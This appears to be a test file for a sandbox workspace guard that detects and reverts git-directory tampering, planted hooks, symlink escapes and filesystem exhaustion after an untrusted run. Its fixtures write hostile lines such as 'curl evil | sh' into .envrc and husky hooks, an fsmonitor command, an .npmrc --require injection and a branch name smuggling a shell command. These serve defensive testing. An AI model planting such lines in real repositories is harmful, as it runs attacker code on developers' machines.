    fs.symlinkSync(rc, path.join(ws, ".git/logs/HEAD"));
    fs.rmSync(path.join(ws, ".git/COMMIT_EDITMSG"));
    fs.symlinkSync(rc, path.join(ws, ".git/COMMIT_EDITMSG"));
    fs.renameSync(path.join(ws, ".git/refs"), path.join(ws, "old-refs"));
    fs.symlinkSync(path.join(outside, "refs"), path.join(ws, ".git/refs"));
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}: ${v.detail}`).sort()).toEqual([
      "git-entry-kinds modified .git/COMMIT_EDITMSG: a symbolic link",
      "git-entry-kinds modified .git/logs/HEAD: a symbolic link",
      "git-entry-kinds modified .git/refs: a symbolic link",
    ]);
    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true, notRestored: [] });
    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
    // The host's own git: a commit and a branch switch write reflogs and the message inside .git only.
    git(ws, "checkout", "-q", "-b", "fix;touch${IFS}pwned;#");
    fs.writeFileSync(path.join(ws, "src/a.ts"), "a3\n");
    git(ws, "commit", "-qam", "host commit");
    git(ws, "checkout", "-q", "-");
    expect(fs.readFileSync(rc, "utf8")).toBe("# a shell rc\n");
    expect(fs.readdirSync(path.join(outside, "refs/heads"))).toEqual([".keep"]);
  });

  it("an index naming ../x: put back when it was kept; removed when it was too large to keep (never left as the run wrote it)", async () => {
    const evilIndex = (ws: string) => {
      // Another index, made by git from a file named like the victim but one "a/" deeper, then renamed.
      const scratch = tree({ "aa/victim": "evil\n" });
      git(scratch, "init", "-q");
      git(scratch, "add", ".");
      const bytes = fs.readFileSync(path.join(scratch, ".git/index"));
      const at = bytes.indexOf("aa/victim");
      bytes.write("../victim", at, "latin1");
      const body = bytes.subarray(0, bytes.length - 20);
      fs.writeFileSync(
        path.join(ws, ".git/index"),
        Buffer.concat([body, crypto.createHash("sha1").update(body).digest()]),
      );
    };
    const small = gitRepo();
    const before = fs.readFileSync(path.join(small, ".git/index"));
    let w = await watch(small);
    evilIndex(small);
    let report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual(["git-pointers .git/index"]);
    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true });
    expect(fs.readFileSync(path.join(small, ".git/index"))).toEqual(before);

    const large = gitRepo();
    // An index past the 8 MiB a kept index may have: git's own, with an optional extension (an
    // upper-case signature, which git skips) of 9 MiB.
    const index = fs.readFileSync(path.join(large, ".git/index"));
    const pad = Buffer.alloc(8 + 9 * 1024 * 1024);
    pad.write("ZPAD", 0, "latin1");
    pad.writeUInt32BE(pad.length - 8, 4);
    const padded = Buffer.concat([index.subarray(0, index.length - 20), pad]);
    fs.writeFileSync(
      path.join(large, ".git/index"),
      Buffer.concat([padded, crypto.createHash("sha1").update(padded).digest()]),
    );
    expect(git(large, "ls-files")).toContain("src/a.ts");
    w = await watch(large);
    evilIndex(large);
    report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual(["git-pointers .git/index"]);
    expect(fs.existsSync(path.join(large, ".git/index"))).toBe(false);
    expect(report.restore?.notRestored).toEqual([
      {
        path: ".git/index",
        why: expect.stringMatching(/changed by the run and not kept \(larger than 8 MiB\): removed/),
      },
    ]);
  }, 60_000);

  it("an object store moved into the worktree and linked back (with info/alternates) goes back into place, history intact", async () => {
    const ws = gitRepo();
    const head = git(ws, "rev-parse", "HEAD");
    const w = await watch(ws);
    fs.renameSync(path.join(ws, ".git/objects"), path.join(ws, "evil-objects"));
    fs.writeFileSync(path.join(ws, "evil-objects/info/alternates"), "/srv/elsewhere/objects\n");
    fs.symlinkSync("../evil-objects", path.join(ws, ".git/objects"));
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual(["git-entry-kinds .git/objects"]);
    expect(report.restore).toMatchObject({ clean: true, notRestored: [] });
    expect(fs.lstatSync(path.join(ws, ".git/objects")).isDirectory()).toBe(true);
    expect(fs.existsSync(path.join(ws, "evil-objects"))).toBe(false);
    expect(fs.existsSync(path.join(ws, ".git/objects/info/alternates"))).toBe(false);
    expect(git(ws, "rev-parse", "HEAD")).toBe(head);
    expect(git(ws, "log", "--oneline")).toMatch(/ init\n$/);
  });

  it("a hard link (COMMIT_EDITMSG to .git/config), a FIFO and a bad HEAD: found and put back; a host commit leaves config alone", async () => {
    const ws = gitRepo();
    const config = fs.readFileSync(path.join(ws, ".git/config"), "utf8");
    const before = state(path.join(ws, ".git"), OBJECTS);
    const w = await watch(ws);
    fs.rmSync(path.join(ws, ".git/COMMIT_EDITMSG"));
    fs.linkSync(path.join(ws, ".git/config"), path.join(ws, ".git/COMMIT_EDITMSG"));
    execFileSync("mkfifo", [path.join(ws, ".git/FETCH_HEAD")]);
    fs.writeFileSync(path.join(ws, ".git/HEAD"), "ref: refs/heads/../../../config\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`).sort()).toEqual([
      "git-entry-kinds .git/COMMIT_EDITMSG",
      "git-entry-kinds .git/FETCH_HEAD",
      "git-entry-kinds .git/config",
      "git-pointers .git/HEAD",
    ]);
    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true, notRestored: [] });
    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
    expect(fs.statSync(path.join(ws, ".git/config")).nlink).toBe(1);
    fs.writeFileSync(path.join(ws, "src/a.ts"), "a3\n");
    git(ws, "commit", "-qam", "host commit");
    expect(fs.readFileSync(path.join(ws, ".git/config"), "utf8")).toBe(config);
  });

  it("ordinary git work in the run is not a violation (commit, branch, tag, pack-refs, fetch from a local remote)", async () => {
    const ws = gitRepo();
    const remote = gitRepo();
    const w = await watch(ws);
    fs.writeFileSync(path.join(ws, "src/a.ts"), "a2\n");
    git(ws, "commit", "-qam", "x");
    git(ws, "branch", "topic");
    git(ws, "tag", "-a", "v1", "-m", "v1");
    git(ws, "fetch", "-q", remote, "+refs/heads/*:refs/remotes/r/*");
    git(ws, "pack-refs", "--all");
    git(ws, "checkout", "-q", "topic");
    const report = await w.finish();
    expect(report.violations).toEqual([]);
  });
});

describe("WorkspaceWatch: what the repository's git config names is protected", () => {
  it("core.hooksPath and include.path targets in the worktree: edits are undone", async () => {
    const ws = gitRepo();
    fs.mkdirSync(path.join(ws, ".githooks"));
    fs.writeFileSync(path.join(ws, ".githooks/pre-commit"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    fs.writeFileSync(path.join(ws, "team.gitconfig"), "[user]\n\tname = team\n");
    fs.appendFileSync(
      path.join(ws, ".git/config"),
      "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../team.gitconfig\n",
    );
    const before = state(ws, /^\.git(\/|$)/);
    const w = await watch(ws);
    fs.appendFileSync(path.join(ws, ".githooks/pre-commit"), "touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, ".githooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
    fs.appendFileSync(path.join(ws, "team.gitconfig"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, "src/a.ts"), "ordinary\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`)).toEqual([
      "git-config-paths created .githooks/post-checkout",
      "git-config-paths modified .githooks/pre-commit",
      "git-config-paths modified team.gitconfig",
    ]);
    expect(report.violations[0]!.detail).toBe(`core.hooksPath in ${ws}/.git/config`);
    expect(report.configPaths.map((c) => c.path).sort()).toEqual([".githooks", "team.gitconfig"]);
    expect(report.restore).toMatchObject({ reverted: [".githooks", "team.gitconfig"], clean: true });
    expect(state(ws, /^\.git(\/|$)/)).toEqual({ ...before, "src/a.ts": expect.stringMatching(/^file:/) });
    expect(fs.readFileSync(path.join(ws, "src/a.ts"), "utf8")).toBe("ordinary\n");
  });
});

describe("WorkspaceWatch: modes and host-run files", () => {
  it("chmod 0777 on the root is put back", async () => {
    const ws = gitRepo();
    fs.chmodSync(ws, 0o755);
    const w = await watch(ws);
    fs.chmodSync(ws, 0o777);
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path || "."}`)).toEqual(["directory-modes mode ."]);
    expect(report.restore).toMatchObject({ modes: ["."], clean: true, remaining: [] });
    expect(fs.statSync(ws).mode & 0o7777).toBe(0o755);
  });

  it("group/world-write bits the run added to files are cleared (and reported); bits a file already had stay", async () => {
    const ws = tree({ "a.sh": "a\n", "shared.txt": "s\n" });
    fs.chmodSync(path.join(ws, "shared.txt"), 0o664);
    const w = await watch(ws);
    fs.chmodSync(path.join(ws, "a.sh"), 0o777);
    fs.writeFileSync(path.join(ws, "new.txt"), "n\n");
    fs.chmodSync(path.join(ws, "new.txt"), 0o666);
    fs.appendFileSync(path.join(ws, "shared.txt"), "more\n");
    const report = await w.finish();
    expect(report.violations).toEqual([]);
    expect(report.clearedWriteBits.sort()).toEqual(["a.sh", "new.txt"]);
    expect(fs.statSync(path.join(ws, "a.sh")).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(path.join(ws, "new.txt")).mode & 0o7777).toBe(0o644);
    expect(fs.statSync(path.join(ws, "shared.txt")).mode & 0o7777).toBe(0o664);
  });

  it("links are reported as the restore leaves the tree: a committed link it puts back that now sends a new link out is reported (fix review, round 3, session 40, N6)", async () => {
    const ws = tree({ ".husky/pre-commit": "exit 0\n", "scripts/x.sh": "echo\n", "dist/index.html": "<p>\n" });
    fs.symlinkSync("../scripts", path.join(ws, ".husky/shared"));
    const w = await watch(ws);
    // The run retargets the committed link deeper, so a new link through it reads as inside;
    // once the restore puts `.husky/shared -> ../scripts` back, the new link climbs out of the tree.
    fs.rmSync(path.join(ws, ".husky/shared"));
    fs.symlinkSync("../dist/a/b/c", path.join(ws, ".husky/shared"));
    fs.mkdirSync(path.join(ws, "dist/a/b/c"), { recursive: true });
    fs.symlinkSync("../.husky/shared/../../HOST-SECRET.txt", path.join(ws, "dist/notes.txt"));
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual([".husky/ .husky/shared"]);
    expect(fs.readlinkSync(path.join(ws, ".husky/shared"))).toBe("../scripts");
    expect(report.hostRunFiles.map((h) => `${h.change} ${h.path}`)).toEqual(["created dist/notes.txt"]);
    expect(report.hostRunFiles[0]?.why).toContain("through other links");
    expect(report.hostRunCount).toBe(1);
  });

  it("host-run files are reported, not refused; protected hook-manager files are refused", async () => {
    const ws = tree({ ".npmrc": "registry=https://registry.npmjs.org/\n" });
    const w = await watch(ws);
    fs.appendFileSync(path.join(ws, ".npmrc"), "node-options=--require ./x.js\n");
    fs.writeFileSync(path.join(ws, ".gitattributes"), "* filter=lfs\n");
    fs.writeFileSync(path.join(ws, "lefthook.yml"), "pre-commit:\n  commands:\n    x:\n      run: touch /tmp/pwned\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual(["lefthook.yml lefthook.yml"]);
    expect(report.hostRunFiles.map((h) => `${h.change} ${h.path}`)).toEqual([
      "created .gitattributes",
      "modified .npmrc",
    ]);
    expect(report.hostRunCount).toBe(2);
  });
});

describe("WorkspaceWatch: folders filled past what the walk after the run holds (hard links)", () => {
  /** `count` hard links of `target` in `dir`, with 200-character names. */
  const links = (target: string, dir: string, count: number) => {
    fs.mkdirSync(dir, { recursive: true });
    for (let i = 0; i < count; i++) fs.linkSync(target, path.join(dir, `${String(i).padStart(200, "l")}`));
  };

  it("what the run added to an existing folder and a new one is removed, what the folder held stays and is judged", async () => {
    const ws = tree({ "data/keep.txt": "keep\n", "data/.envrc": "export A=1\n", "src/a.ts": "a\n" });
    const w = await watch(ws, { maxEntries: 50 });
    // The run: 2,000 hard links into data/ and into a new folder; an edit to a protected file in
    // data/ that only a walk of data/ can see; an ordinary change elsewhere.
    const target = path.join(ws, "src/a.ts");
    links(target, path.join(ws, "data"), 2_000);
    links(target, path.join(ws, "fresh/deep"), 2_000);
    fs.writeFileSync(path.join(ws, "data/.envrc"), "PATH_add evil\n");
    fs.writeFileSync(path.join(ws, "src/b.ts"), "b\n");
    fs.writeFileSync(path.join(ws, "src/run.sh"), "#!/bin/sh\n", { mode: 0o755 });
    fs.chmodSync(path.join(ws, "src/run.sh"), 0o4777);
    const report = await w.finish();
    expect(report.overfull).toEqual([
      { path: "data", entries: expect.any(Number), removed: 2_000 },
      { path: "fresh/deep", entries: expect.any(Number), removed: 2_000 },
    ]);
    for (const folder of report.overfull) expect(folder.entries).toBeGreaterThan(50);
    // The folders as they were; the new one's parent (an ordinary new folder) stays.
    expect(fs.readdirSync(path.join(ws, "data")).sort()).toEqual([".envrc", "keep.txt"]);
    expect(fs.readdirSync(path.join(ws, "fresh"))).toEqual([]);
    // The second walk judged what data/ held: the edited .envrc is a violation, put back.
    expect(report.violations.map((v) => `${v.path} ${v.rule}`)).toEqual(["data/.envrc .envrc"]);
    expect(fs.readFileSync(path.join(ws, "data/.envrc"), "utf8")).toBe("export A=1\n");
    expect(report.changedFiles.created).toEqual(["src/b.ts", "src/run.sh"]);
    // The first walk cleared the bits (the second saw none left): still reported.
    expect(report.clearedSetuid).toEqual(["src/run.sh"]);
    expect(report.clearedWriteBits).toEqual(["src/run.sh"]);
    expect(fs.statSync(path.join(ws, "src/run.sh")).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(target).nlink).toBe(1);
  });

  it("a kept folder inside a trimmed one, filled too, is found by the next walk and trimmed in turn; a kept file replaced by a full folder goes whole", async () => {
    const ws = tree({
      "data/keep.txt": "keep\n",
      "data/sub/inner.txt": "inner\n",
      "data/file.txt": "f\n",
      "src/a.ts": "a\n",
    });
    const w = await watch(ws, { maxEntries: 50 });
    const target = path.join(ws, "src/a.ts");
    links(target, path.join(ws, "data"), 2_000);
    links(target, path.join(ws, "data/sub"), 2_000);
    fs.rmSync(path.join(ws, "data/file.txt"));
    links(target, path.join(ws, "data/file.txt"), 2_000);
    const report = await w.finish();
    expect(report.overfull.map(({ path: p, removed }) => ({ path: p, removed }))).toEqual([
      { path: "data", removed: 2_000 },
      // A kept name, so the first round left it; the next walk found a folder where a file was.
      { path: "data/file.txt", removed: 2_000 },
      { path: "data/sub", removed: 2_000 },
    ]);
    expect(fs.readdirSync(path.join(ws, "data")).sort()).toEqual(["keep.txt", "sub"]);
    expect(fs.readdirSync(path.join(ws, "data/sub"))).toEqual(["inner.txt"]);
    expect(report.changedFiles.deleted).toEqual(["data/file.txt"]);
    expect(fs.statSync(target).nlink).toBe(1);
  });

  it("a folder the caller already had with many entries is no violation: the walk's bound starts from the tree before the run", async () => {
    const ws = tree({ "src/a.ts": "a\n" });
    links(path.join(ws, "src/a.ts"), path.join(ws, "vendor"), 3_000);
    const w = await watch(ws, { maxEntries: 50 });
    fs.writeFileSync(path.join(ws, "vendor/new.txt"), "n\n");
    const report = await w.finish();
    expect(report.overfull).toEqual([]);
    expect(report.changedFiles.created).toEqual(["vendor/new.txt"]);
  });
});

describe("WorkspaceWatch: a judgement that cannot finish still puts the git directories back", () => {
  /** A version-2 index of one entry `levels` folders deep, with a TREE extension (review, session 24). */
  function deepIndex(levels: number): Buffer {
    const name = Buffer.from(`${"d/".repeat(levels)}f`, "latin1");
    const fixed = Buffer.alloc(62);
    fixed.writeUInt32BE(0o100644, 24);
    crypto.randomBytes(20).copy(fixed, 40);
    fixed.writeUInt16BE(Math.min(name.length, 0xfff), 60);
    const entry = Buffer.alloc((62 + name.length + 8) & ~7);
    fixed.copy(entry, 0);
    name.copy(entry, 62);
    const tree = Buffer.concat([Buffer.from("\x001 0\n", "latin1"), crypto.randomBytes(20)]);
    const ext = Buffer.alloc(8);
    ext.write("TREE", 0, "latin1");
    ext.writeUInt32BE(tree.length, 4);
    const head = Buffer.alloc(12);
    head.write("DIRC", 0, "latin1");
    head.writeUInt32BE(2, 4);
    head.writeUInt32BE(1, 8);
    const body = Buffer.concat([head, entry, ext, tree]);
    return Buffer.concat([body, crypto.createHash("sha1").update(body).digest()]);
  }

  it("an index 5,000 folders deep beside a planted hook and fsmonitor: judged (the index refused), .git put back", async () => {
    // Before: its cached tree was built recursively, the stack overflowed, the exception skipped the
    // whole restore and the saved state went with it; the host's next git status ran the fsmonitor.
    const ws = gitRepo();
    const before = state(path.join(ws, ".git"), OBJECTS);
    const w = await watch(ws);
    fs.appendFileSync(path.join(ws, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\n");
    fs.writeFileSync(path.join(ws, ".git/index"), deepIndex(5000));
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.path}`)).toEqual(
      expect.arrayContaining(["git-metadata .git/config", "git-pointers .git/index"]),
    );
    expect(report.violations.find((v) => v.path === ".git/index")?.detail).toMatch(/longer than 4096 bytes/);
    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true });
    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
    expect(w.judged).toBe(true);
  });

  it("a judgement that throws (its snapshot gone): everything the kept copy holds is put back (git directories, protected scopes), the error says so, and the state stays for gc, marked", async () => {
    const ws = gitRepo();
    fs.writeFileSync(path.join(ws, ".envrc"), "export A=1\n");
    fs.mkdirSync(path.join(ws, ".husky"));
    fs.writeFileSync(path.join(ws, ".husky/pre-commit"), "npm test\n");
    const before = state(path.join(ws, ".git"), OBJECTS);
    const stateDir = path.join(tree(), "state");
    const w = await watch(ws, { stateDir });
    w.save({ engine: "test" });
    fs.appendFileSync(path.join(ws, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\n");
    fs.appendFileSync(path.join(ws, ".envrc"), "curl evil | sh\n");
    fs.writeFileSync(path.join(ws, ".husky/pre-commit"), "curl evil | sh\n");
    fs.writeFileSync(path.join(ws, ".husky/post-checkout"), "curl evil | sh\n");
    fs.writeFileSync(path.join(ws, "src/a.ts"), "the run's own work\n");
    fs.rmSync(path.join(stateDir, "snapshot-0.bin"));
    const error = await w.finish().then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(isSandboxRunError(error) && error.code).toBe("policy-violation");
    expect((error as Error).message).toMatch(/could not be checked after the run: .*Put back as before the run: /s);
    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
    // Before, only .git went back: the planted .envrc and husky hooks stayed.
    expect(fs.readFileSync(path.join(ws, ".envrc"), "utf8")).toBe("export A=1\n");
    expect(fs.readdirSync(path.join(ws, ".husky"))).toEqual(["pre-commit"]);
    expect(fs.readFileSync(path.join(ws, ".husky/pre-commit"), "utf8")).toBe("npm test\n");
    expect(fs.readFileSync(path.join(ws, "src/a.ts"), "utf8")).toBe("the run's own work\n");
    expect(w.judged).toBe(false);
    expect(fs.readdirSync(stateDir)).toEqual(expect.arrayContaining(["watch.json", "watch.failed"]));
  });
});

describe("gitChecksFailed: git checks that threw judged nothing", () => {
  it("refuses every git directory they were to judge and removes the object-store files the run created", () => {
    const facts = { kind: "file" as const, size: 1, ino: 1, mtimeMs: 0, ctimeMs: 0 };
    const work = {
      store: [
        {
          path: "a/.git/objects/pack/p.pack",
          gitRoot: "a/.git",
          relative: "objects/pack/p.pack",
          change: "created" as const,
          after: facts,
        },
        {
          path: "a/.git/objects/pack/q.pack",
          gitRoot: "a/.git",
          relative: "objects/pack/q.pack",
          change: "modified" as const,
          before: facts,
          after: facts,
        },
      ],
      pointers: [{ path: ".git/HEAD", gitRoot: ".git", relative: "HEAD", change: "modified" as const }],
      pointerOverflow: new Set<string>(),
    } as unknown as Parameters<typeof gitChecksFailed>[0];
    const result = gitChecksFailed(work, new Error("index-pack vanished"));
    expect(result.violations.map((v) => `${v.path} ${v.rule}: ${v.detail}`)).toEqual([
      "a/.git git-refs: not checked: the git checks failed (index-pack vanished)",
      ".git git-refs: not checked: the git checks failed (index-pack vanished)",
    ]);
    expect(result.violations.map((v) => v.restore)).toEqual([
      { action: "revert", path: "a/.git" },
      { action: "revert", path: ".git" },
    ]);
    // An existing pack git only freshened is history the run never wrote: it stays.
    expect(result.steps).toEqual([{ action: "remove", path: "a/.git/objects/pack/p.pack", objectStore: true }]);
  });
});

describe("WorkspaceWatch: a workspace the run filled to the last byte (review, session 32)", () => {
  /** Every name below `dir`, recursively (relative). */
  const names = (dir: string): string[] =>
    (fs.readdirSync(dir, { recursive: true }) as string[]).map((n) => n.toString()).sort();

  it("still puts protected files back (the run's entry goes first to free its room), and leaves no scratch file of the host's", async () => {
    expect(process.geteuid?.(), "mount needs root (the unit tests run as root here and on CI)").toBe(0);
    const mountPoint = tree();
    expect(spawnSync("mount", ["-t", "tmpfs", "-o", "size=4m", "tmpfs", mountPoint]).status).toBe(0);
    try {
      const ws = path.join(mountPoint, "ws");
      fs.mkdirSync(path.join(ws, ".vscode"), { recursive: true });
      fs.writeFileSync(path.join(ws, ".envrc"), "export A=1\n");
      fs.writeFileSync(path.join(ws, ".vscode/settings.json"), '{ "editor.tabSize": 2 }\n');
      const w = await watch(ws);
      // The run: hostile content at protected paths, then a plain file that takes every byte left.
      fs.writeFileSync(path.join(ws, ".envrc"), "curl evil | sh\n");
      fs.writeFileSync(path.join(ws, ".vscode/settings.json"), `{ "terminal.integrated.shell.linux": "/tmp/x" }\n`);
      const fill = fs.openSync(path.join(ws, "fill.bin"), "w");
      try {
        for (;;) fs.writeSync(fill, Buffer.alloc(64 * 1024));
      } catch (error) {
        expect((error as NodeJS.ErrnoException).code).toBe("ENOSPC");
      } finally {
        fs.closeSync(fill);
      }
      const report = await w.finish();
      expect(report.violations.map((v) => `${v.change} ${v.path}`).sort()).toEqual([
        "modified .envrc",
        "modified .vscode/settings.json",
      ]);
      expect(fs.readFileSync(path.join(ws, ".envrc"), "utf8")).toBe("export A=1\n");
      expect(fs.readFileSync(path.join(ws, ".vscode/settings.json"), "utf8")).toBe('{ "editor.tabSize": 2 }\n');
      expect(report.restore).toMatchObject({ clean: true, notRestored: [] });
      expect(names(ws)).toEqual([".envrc", ".vscode", ".vscode/settings.json", "fill.bin"]);
    } finally {
      spawnSync("umount", ["-l", mountPoint]);
    }
  });
});

describe("WorkspaceWatch: a restore that fails inside the object store (review, session 32)", () => {
  it("leaves the object store (never copied) in place and reports what failed; the history stays", async () => {
    expect(process.geteuid?.(), "mount needs root (the unit tests run as root here and on CI)").toBe(0);
    const mountPoint = tree();
    // Few inodes: the run can use up every one, so the host cannot make a folder again.
    expect(spawnSync("mount", ["-t", "tmpfs", "-o", "size=16m,nr_inodes=600", "tmpfs", mountPoint]).status).toBe(0);
    try {
      const ws = path.join(mountPoint, "ws");
      fs.mkdirSync(ws);
      fs.writeFileSync(path.join(ws, "a.txt"), "a\n");
      const git = (...args: string[]) =>
        execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: ws, encoding: "utf8" });
      git("init", "-q");
      git("add", ".");
      git("commit", "-qm", "init");
      const head = git("rev-parse", "HEAD");
      fs.writeFileSync(path.join(ws, ".git/objects/info/alternates"), `${path.join(ws, ".git/objects")}\n`);
      const w = await watch(ws);
      // The run: the kept alternates' folder gone, a file in .git (sorting after objects) that
      // reverts .git, and every inode left taken by plain files.
      fs.rmSync(path.join(ws, ".git/objects/info"), { recursive: true });
      fs.writeFileSync(path.join(ws, ".git/zz-planted"), "x");
      try {
        for (let i = 0; ; i++) fs.writeFileSync(path.join(ws, `fill-${i}`), "");
      } catch (error) {
        expect((error as NodeJS.ErrnoException).code).toBe("ENOSPC");
      }
      const report = await w.finish();
      expect(report.violations.map((v) => `${v.change} ${v.path}`)).toContain("created .git/zz-planted");
      expect(report.restore?.notRestored).toContainEqual({ path: ".git/objects", why: "ENOSPC; left as it is" });
      expect(fs.existsSync(path.join(ws, ".git/zz-planted"))).toBe(false);
      for (const name of fs.readdirSync(ws).filter((n) => n.startsWith("fill-"))) fs.rmSync(path.join(ws, name));
      expect(git("rev-parse", "HEAD")).toBe(head);
      expect(git("log", "--oneline")).toMatch(/ init\n$/);
    } finally {
      spawnSync("umount", ["-l", mountPoint]);
    }
  });
});
